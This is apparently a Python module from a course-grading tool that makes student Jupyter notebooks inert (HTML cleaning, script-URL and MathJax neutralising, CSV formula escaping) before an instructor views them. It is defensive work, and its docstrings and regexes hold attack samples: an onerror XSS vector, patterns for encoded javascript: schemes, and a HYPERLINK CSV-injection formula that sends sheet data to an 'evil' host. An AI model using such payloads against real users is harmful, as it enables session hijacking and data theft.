"""Make what a student submitted inert before an instructor's browser shows it.

A submitted notebook is hostile input wherever it is shown: the Formgrader, nbconvert's HTML
and the feedback pages render outputs and markdown as HTML in the Jupyter server's own
origin, so an ``<img onerror=...>`` in an output or a written answer would run with the
instructor's session (and could call the server's API: write files, start a terminal).
:func:`sanitize_notebook` rewrites a notebook so that nothing in it can run or load anything:

- outputs keep plain text, PNG/JPEG/GIF images and JSON as they are; HTML is cleaned with
  `nh3 <https://nh3.readthedocs.io>`_ (the Python binding of the Rust ``ammonia`` sanitiser):
  tables (pandas DataFrames), text formatting and embedded images stay, scripts, styles,
  event handlers, frames, forms and links to anything but http(s)/mailto go; SVG becomes an
  ``<img>`` with a data URL (a browser never runs scripts in an SVG shown as an image);
  Markdown and LaTeX outputs are cleaned like written answers; JavaScript, widget and any
  other output types are dropped with a visible note;
- markdown and raw cells (written answers) have their HTML cleaned the same way, links to
  ``javascript:`` and similar schemes neutralised, and images limited to attachments and
  data URLs (no request leaves the page: a remote or relative image could call the server);
- metadata that templates put into HTML attributes (output ``width``/``height``, cell tags,
  cell ids, execution counts, stream names) is reduced to safe values, and notebook
  metadata to the kernel's description.

Text outputs, tracebacks and code are escaped by nbconvert itself. A dropped output leaves a
visible note where it was, and :func:`sanitize_notebook` returns a note per cell that had
something removed, so the instructor sees that a student tried. Nothing happens on import; :mod:`dlmed.course.grading` wraps :func:`sanitize_notebook` as the nbgrader
preprocessor ``SanitizeStudentContent``.
"""

import base64
import re
import uuid
from typing import List

#: Output types shown as they are (nbconvert escapes text; images are base64 data).
SAFE_OUTPUT_TYPES = {"text/plain", "image/png", "image/jpeg", "image/gif", "application/json"}
#: Output types dropped without a note: a progress bar's widget view points at widget state
#: that notebooks saved by a grader never hold; its text/plain fallback is kept.
QUIETLY_DROPPED_TYPES = {"application/vnd.jupyter.widget-view+json"}
#: What makes HTML active: worth a note for the instructor when it was removed.
ACTIVE_MARKUP = re.compile(r"<\s*(script|iframe|frame|object|embed|svg|math|form|meta|link|base)\b|\bon[a-z]+\s*=|"
                           r"javascript\s*:", re.IGNORECASE)

_IMAGE_DATA_URL = re.compile(r"^data:image/(png|jpeg|gif|svg\+xml);base64,[A-Za-z0-9+/=\s]*$", re.IGNORECASE)
_LINK_SCHEMES = ("http:", "https:", "mailto:")
# Tags and attributes kept in HTML from a student: enough for text, tables and images.
_HTML_TAGS = {
    "a", "abbr", "b", "blockquote", "br", "caption", "code", "col", "colgroup", "dd", "del", "details", "div",
    "dl", "dt", "em", "figcaption", "figure", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "ins", "kbd",
    "li", "mark", "ol", "p", "pre", "q", "s", "samp", "small", "span", "strong", "sub", "summary", "sup", "table",
    "tbody", "td", "tfoot", "th", "thead", "tr", "tt", "u", "ul", "var",
}
_HTML_ATTRIBUTES = {
    "*": {"class", "id", "title", "align"},
    "a": {"href"}, "img": {"src", "alt", "width", "height"}, "ol": {"start"},
    "td": {"colspan", "rowspan"}, "th": {"colspan", "rowspan", "scope"},
}
# Something that an HTML parser would take for markup: a tag, a comment, a doctype.
_MARKUP = re.compile(r"<\s*[A-Za-z!/?]")
# A URL scheme that runs code when followed, also spelt with blanks, control characters or
# entities in between (browsers ignore those inside a scheme).
_SCRIPT_SCHEME = re.compile(
    r"(j|&#0*106;|&#x0*6a;)(\s|&#?\w+;)*(a|&#0*97;|&#x0*61;)(\s|&#?\w+;)*(v|&#0*118;|&#x0*76;)(\s|&#?\w+;)*"
    r"(a|&#0*97;|&#x0*61;)(\s|&#?\w+;)*s(\s|&#?\w+;)*c(\s|&#?\w+;)*r(\s|&#?\w+;)*i(\s|&#?\w+;)*p(\s|&#?\w+;)*t"
    r"(\s|&#?\w+;)*(:|&colon;|&#0*58;|&#x0*3a;)"
    r"|vbscript\s*:|livescript\s*:|data\s*:\s*text/html", re.IGNORECASE)
# Markdown autolinks, <https://example.org>: markup to an HTML parser, a link to Markdown.
_AUTOLINK = re.compile(r"<((?:https?|mailto):[^\s<>]+)>", re.IGNORECASE)
# Inline and display math, where "a<b" is a formula, not a tag.
_MATH = re.compile(r"\$\$.+?\$\$|\$[^$\n]+\$", re.DOTALL)
# An inline code span on one line (`x < y`, ``a`b``): markdown shows its content as text, so a
# "<" there is no tag. Conservative on purpose: a backtick after a backslash (an escaped one)
# or a span over several lines (which may be no span at all, e.g. in an indented code block)
# is not taken as code, and is cleaned like the rest.
_CODE_SPAN = re.compile(r"(?<![`\\])(`+)(?!`)[^\n]*?(?<!`)\1(?!`)")
# Markdown images: ![alt](url ...) and reference definitions [id]: url
_MARKDOWN_IMAGE = re.compile(r"(!\[[^\]]*\]\(\s*<?)([^)\s>]*)")
_MARKDOWN_REFERENCE = re.compile(r"^(\s{0,3}\[[^\]]+\]:\s*<?)(\S+?)(>?)(\s|$)", re.MULTILINE)
# MathJax commands that load code or reach outside the formula.
_MATHJAX_COMMANDS = re.compile(r"\\(require|href|url|unicode|style|class|cssId)\b")
_SAFE_TOKEN = re.compile(r"^[A-Za-z0-9_.:-]{1,100}$")
_CELL_ID = re.compile(r"^[A-Za-z0-9_-]{1,64}$")

BLOCKED_OUTPUT_NOTE = ("[removed by the grader: an output of type {kinds}, which the instructor's browser "
                       "would run as code or load from elsewhere]")


def _keep_attribute(tag: str, attribute: str, value: str):
    """nh3 attribute filter: images only from data URLs, links only to http(s) and mail."""
    if tag == "img" and attribute == "src":
        return value if _IMAGE_DATA_URL.match(value) else None
    if tag == "a" and attribute == "href":
        return value if value.strip().lower().startswith(_LINK_SCHEMES) else None
    if attribute in ("width", "height"):
        return value if re.fullmatch(r"\d{1,5}(px|%)?", value.strip()) else None
    return value


def clean_html(text: str) -> str:
    """Return ``text`` (an HTML fragment) with only inert markup left; see the module's docstring."""
    import nh3

    return nh3.clean(
        text, tags=_HTML_TAGS, attributes=_HTML_ATTRIBUTES, attribute_filter=_keep_attribute,
        clean_content_tags={"script", "style", "template", "textarea", "iframe", "noscript", "object", "embed"},
        url_schemes={"http", "https", "mailto", "data"}, url_relative="deny", link_rel="noopener noreferrer",
        # Ids and names from a student must not clobber the page's own elements.
        id_prefix="student-content-",
    )


def _neutralise_urls(text: str) -> str:
    """Replace script URL schemes and make markdown images that would load a URL show nothing."""
    text = _SCRIPT_SCHEME.sub("blocked-scheme:", text)

    def image(match):
        url = match.group(2)
        safe = url.lower().startswith(("attachment:", "data:image/")) or url == ""
        return match.group(1) + (url if safe else "#image-blocked-by-the-grader")

    def reference(match):
        url = match.group(2)
        if url.lower().startswith(_LINK_SCHEMES + ("attachment:", "#")):
            return match.group(0)
        return match.group(1) + "#blocked-by-the-grader" + match.group(3) + match.group(4)

    text = _MARKDOWN_IMAGE.sub(image, text)
    return _MARKDOWN_REFERENCE.sub(reference, text)


def clean_markdown(source: str) -> str:
    """Return a markdown text (a written answer) without active HTML, script links or remote images.

    Markdown without markup comes back unchanged but for neutralised URLs and MathJax
    commands. Where there is markup, nh3 cleans it; the ``>`` and ``&`` it escapes in plain
    text are put back (alone they cannot make a tag) so quotes and formulas still render.
    """
    # Autolinks, formulas and code spans alone are safe. Where markup is left outside them, the
    # whole text is cleaned, spans included: a span that sits inside a tag is no span.
    if _MARKUP.search(_MATH.sub("", _CODE_SPAN.sub("", _AUTOLINK.sub("", source)))):
        source = _AUTOLINK.sub(r"[\1](\1)", source)
        source = _MATH.sub(lambda formula: formula.group(0).replace("<", "&lt;"), source)
        source = clean_html(source).replace("&gt;", ">").replace("&amp;", "&")
    return _MATHJAX_COMMANDS.sub(r"\\text{[\1 removed]}", _neutralise_urls(source))


def clean_latex(source: str) -> str:
    """Return LaTeX for MathJax without commands that load code or follow URLs."""
    return _MATHJAX_COMMANDS.sub(r"\\text{[\1 removed]}", _neutralise_urls(source))


def _svg_as_image(svg) -> str:
    data = svg if isinstance(svg, str) else "".join(svg)
    encoded = base64.b64encode(data.encode("utf-8")).decode("ascii")
    return f'<img alt="SVG image" src="data:image/svg+xml;base64,{encoded}">'


def _joined(value):
    return "".join(value) if isinstance(value, list) else value


def _clean_output_metadata(metadata) -> dict:
    """Only numeric widths and heights of images survive (templates put them in unquoted attributes)."""
    clean = {}
    if not isinstance(metadata, dict):
        return clean
    for kind, values in metadata.items():
        if kind in SAFE_OUTPUT_TYPES and isinstance(values, dict):
            sizes = {key: int(values[key]) for key in ("width", "height")
                     if isinstance(values.get(key), (int, float)) or str(values.get(key, "")).isdigit()}
            if sizes:
                clean[kind] = sizes
    return clean


def sanitize_output(output) -> List[str]:
    """Clean one code-cell output in place; return what was removed or defused (empty: nothing)."""
    kind = output.get("output_type")
    if kind == "stream":
        if output.get("name") not in ("stdout", "stderr"):
            output["name"] = "stdout"
        return []
    if kind == "error":
        output["ename"] = str(output.get("ename", ""))
        output["evalue"] = str(output.get("evalue", ""))
        output["traceback"] = [str(line) for line in output.get("traceback", [])]
        return []
    if kind not in ("display_data", "execute_result", "update_display_data"):
        return []
    cleaners = {"text/html": clean_html, "text/markdown": clean_markdown, "text/latex": clean_latex}
    cleaned, dropped, defused = {}, [], []
    for mime, value in output.get("data", {}).items():
        if mime in SAFE_OUTPUT_TYPES:
            cleaned[mime] = value
        elif mime in cleaners or mime == "image/svg+xml":
            text = _joined(value)
            if ACTIVE_MARKUP.search(text) or (mime != "text/html" and cleaners.get(mime, str)(text) != text):
                defused.append(mime)
            if mime == "image/svg+xml":
                cleaned["text/html"] = _svg_as_image(text)
            else:
                cleaned[mime] = cleaners[mime](text)
        elif mime not in QUIETLY_DROPPED_TYPES:
            dropped.append(mime)
    if dropped:
        note = BLOCKED_OUTPUT_NOTE.format(kinds=", ".join(sorted(dropped)))
        cleaned["text/plain"] = (_joined(cleaned["text/plain"]) + "\n" + note) if "text/plain" in cleaned else note
    if not cleaned:
        cleaned["text/plain"] = ""
    output["data"] = cleaned
    output["metadata"] = _clean_output_metadata(output.get("metadata", {}))
    return [f"an output of type {kind} was removed" for kind in sorted(dropped)] + [
        f"active markup in an output of type {kind} was made inert" for kind in sorted(defused)]


def _clean_attachments(cell):
    attachments = cell.get("attachments")
    if not isinstance(attachments, dict):
        return
    for name in list(attachments):
        bundle = attachments[name]
        kept = {k: v for k, v in bundle.items() if k in ("image/png", "image/jpeg", "image/gif")} if isinstance(bundle, dict) else {}
        if kept:
            attachments[name] = kept
        else:
            del attachments[name]


def sanitize_cell(cell) -> List[str]:
    """Clean one cell in place (outputs, written answers, attributes templates show).

    Returns what was removed or changed, as short phrases (empty: the cell was harmless).
    """
    notes = []
    metadata = cell.get("metadata", {})
    tags = metadata.get("tags")
    if tags is not None:
        metadata["tags"] = [t for t in tags if isinstance(t, str) and _SAFE_TOKEN.match(t)] if isinstance(tags, list) else []
    for key in ("format", "raw_mimetype", "widgets"):
        metadata.pop(key, None)
    if "id" in cell and not (isinstance(cell["id"], str) and _CELL_ID.match(cell["id"])):
        cell["id"] = uuid.uuid4().hex[:8]
    if cell.get("cell_type") == "code":
        if not isinstance(cell.get("execution_count"), (int, type(None))):
            cell["execution_count"] = None
        for output in cell.get("outputs", []):
            notes += [note for note in sanitize_output(output) if note not in notes]
    elif cell.get("cell_type") in ("markdown", "raw"):
        source = _joined(cell.get("source", ""))
        cleaned = clean_markdown(source) if cell["cell_type"] == "markdown" else clean_html(source)
        if cleaned != source:
            cell["source"] = cleaned
            notes.append(f"markup in a {cell['cell_type']} cell was made inert")
        _clean_attachments(cell)
    return notes


def sanitize_notebook(nb) -> List[str]:
    """Clean every cell of ``nb`` and its metadata in place.

    Returns notes for the instructor, one per cell that had something removed or changed,
    naming the cell (its nbgrader ``grade_id`` or its position).
    """
    notes = []
    for index, cell in enumerate(nb.get("cells", [])):
        grade_id = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") if isinstance(
            cell.get("metadata", {}).get("nbgrader"), dict) else None
        label = f"cell {grade_id!r}" if isinstance(grade_id, str) and _SAFE_TOKEN.match(grade_id) else f"cell {index + 1}"
        notes += [f"{label}: {note}" for note in sanitize_cell(cell)]
    metadata = nb.get("metadata", {})
    for key in [k for k in metadata if k not in ("kernelspec", "language_info", "nbgrader")]:
        del metadata[key]
    return notes


#: What makes a spreadsheet read a cell as a formula (OWASP "CSV injection"), fullwidth forms too.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def spreadsheet_safe(value):
    """A CSV cell that no spreadsheet runs as a formula: text starting (after blanks or quotes)
    with ``= + - @``, a tab or a line break gets a leading ``'`` (OWASP's advice); numbers stay numbers.

    Student ids, names from a learning platform, notes and code in the grader's CSV files pass
    through this: ``=HYPERLINK("http://evil/?"&A1)`` as a name would otherwise send the sheet's
    contents away when the instructor opens the file.
    """
    if value is None or isinstance(value, (bool, int, float)):
        return value
    text = str(value)
    if text.lstrip(" \"'").startswith(_FORMULA_START) or text.startswith(_FORMULA_START):
        return "'" + text
    return text
